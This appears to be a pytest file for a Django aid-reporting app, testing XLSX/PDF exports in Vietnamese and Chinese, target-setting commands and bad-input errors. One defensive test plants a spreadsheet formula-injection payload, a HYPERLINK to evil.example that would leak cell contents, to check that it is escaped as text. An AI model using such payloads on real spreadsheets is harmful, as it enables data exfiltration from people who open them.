"""The report's files (XLSX numbers as numbers; PDF text in Vietnamese and Chinese,
found by turning the PDF back into text), the commands and bad input. The demo's seed
figures are checked with the demo (demo/tests/test_aid_demo.py)."""

import io
import json
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook
from pypdf import PdfReader

from amity.reports.models import Target

pytestmark = pytest.mark.django_db


def has_chinese_font() -> bool:
    if not shutil.which("fc-list"):
        return False
    fonts = subprocess.run(["fc-list", ":lang=zh"], capture_output=True, text=True).stdout
    return bool(fonts.strip())


def report(*args) -> str:
    out = io.StringIO()
    call_command("report", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def written(tmp_path, format: str, *args) -> Path:
    """Run `amity report … --format FORMAT --output FILE`; the file."""
    path = tmp_path / f"report-{len(list(tmp_path.iterdir()))}.{format}"
    report(*args, "--format", format, "--output", str(path))
    return path


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def test_the_files_hold_the_report(unions, portfolio, tmp_path):
    """XLSX: a summary and one sheet per breakdown, numbers stored as numbers with a
    format. PDF: Vietnamese for Dong Nai, Chinese for Lao Cai, read back as text."""
    path = written(
        tmp_path, "xlsx", "annual", "--union", "dong-nai", "--year", "2023", "--lang", "vi"
    )
    book = load_workbook(path)
    assert len(book.sheetnames) == 6  # the summary and five breakdowns
    assert book.sheetnames[1] == "Theo lĩnh vực"  # named in the report's language
    summary = book.worksheets[0]
    assert summary["B5"].value == 1250000000 and summary["B5"].number_format == "#,##0"
    assert summary["B8"].value == 150 and summary["B8"].number_format == '0.0"%"'
    sectors = {row[0].value: row for row in book.worksheets[1].iter_rows(min_row=2)}
    primary = sectors["11220 Giáo dục tiểu học"]
    assert primary[1].value == 600000000 and primary[1].number_format == "#,##0"
    assert primary[3].value == 48  # share of committed, as a number
    assert sum(row[1].value for row in sectors.values()) == 1250000000

    usd = written(
        tmp_path, "xlsx", "annual", "--union", "dong-nai", "--year", "2023", "--currency", "USD"
    )
    cell = load_workbook(usd).worksheets[0]["B5"]
    assert cell.value == pytest.approx(51666.67) and cell.number_format == "#,##0.00"

    vi_pdf = written(
        tmp_path, "pdf", "annual", "--union", "dong-nai", "--year", "2023", "--lang", "vi"
    )
    content = vi_pdf.read_bytes()
    assert content.startswith(b"%PDF")
    text = pdf_text(content)
    assert "1,25 tỷ đồng" in text and "Đồng Nai" in text and "Giáo dục tiểu học" in text
    # The chart is drawn in the PDF (its title and axis are text, in Vietnamese).
    assert "Cam kết và giải ngân theo lĩnh vực" in text
    if not has_chinese_font():
        pytest.skip("no font for Chinese on this machine (CI installs fonts-noto-cjk)")
    zh_pdf = written(
        tmp_path, "pdf", "annual", "--union", "lao-cai", "--year", "2023", "--lang", "zh-hans"
    )
    text = pdf_text(zh_pdf.read_bytes())
    assert "3.00亿越南盾" in text and "年度报告" in text


def test_targets_from_the_command_line(unions):
    out = io.StringIO()
    call_command(
        "target",
        "set",
        "--union",
        "lao-cai",
        "--year",
        "2024",
        "--amount",
        "4,500,000",
        "--currency",
        "usd",
        stdout=out,
    )
    target = Target.objects.get(union__slug="lao-cai", year=2024)
    assert (target.amount, target.currency_id) == (Decimal("4500000"), "USD")
    call_command(
        "target",
        "set",
        "--union",
        "lao-cai",
        "--year",
        "2024",
        "--amount",
        "5000000",
        "--currency",
        "USD",
        stdout=out,
    )
    assert Target.objects.get(union__slug="lao-cai", year=2024).amount == Decimal("5000000")
    with pytest.raises(CommandError, match="not a number"):
        call_command("target", "set", "--union", "lao-cai", "--year", "2024", "--amount", "lots")
    with pytest.raises(CommandError, match="nowhere"):
        call_command("target", "set", "--union", "nowhere", "--year", "2024", "--amount", "1")
    with pytest.raises(CommandError, match="amount"):
        call_command("target", "set", "--union", "lao-cai", "--year", "2025", "--amount", "-1")
    assert Target.objects.count() == 1


def test_bad_report_requests_name_every_problem(unions):
    with pytest.raises(CommandError) as error:
        call_command(
            "report",
            "annual",
            "--union",
            "nowhere",
            "--year",
            "20x3",
            "--lang",
            "fr",
            "--currency",
            "QQQ",
        )
    message = str(error.value)
    for part in ("--union", "nowhere", "--year", "--lang", "fr", "--currency", "QQQ"):
        assert part in message
    with pytest.raises(CommandError, match="--as-of"):
        call_command("report", "portfolio", "--union", "lao-cai", "--as-of", "15/08/2023")
    # A year with no data is a report of zeros that says so.
    data = json.loads(report("annual", "--union", "lao-cai", "--year", "2001", "--lang", "en"))
    assert data["committed"] == "0" and "recorded no commitments" in data["summary"]


def test_api_refuses_bad_parameters_by_name(callers, api_client_for):
    client = api_client_for(callers["own_staff"])
    response = client.get("/api/v1/reports/annual/?union=dong-nai&year=abc&half=3&lang=xx")
    assert response.status_code == 400
    assert set(response.json()) >= {"year", "half", "lang"}
    assert client.get("/api/v1/reports/annual/?year=2023").status_code == 400


def test_a_formula_in_a_name_is_written_as_text_in_the_workbook(unions, portfolio, tmp_path):
    """A donor named like a spreadsheet formula (=HYPERLINK…, +, -, @) must not become
    one in the XLSX a union hands on: the cell holds the text, marked as text."""
    from amity.registry.models import Organization

    trap = '=HYPERLINK("http://evil.example/?x="&A1,"Alpha")'
    Organization.objects.filter(name="Alpha Foundation").update(name=trap)
    path = written(tmp_path, "xlsx", "annual", "--union", "dong-nai", "--year", "2023")
    cells = [
        cell
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert cells, "the donor is in the workbook"
    assert all(cell.value == "'" + trap and cell.data_type == "s" for cell in cells)
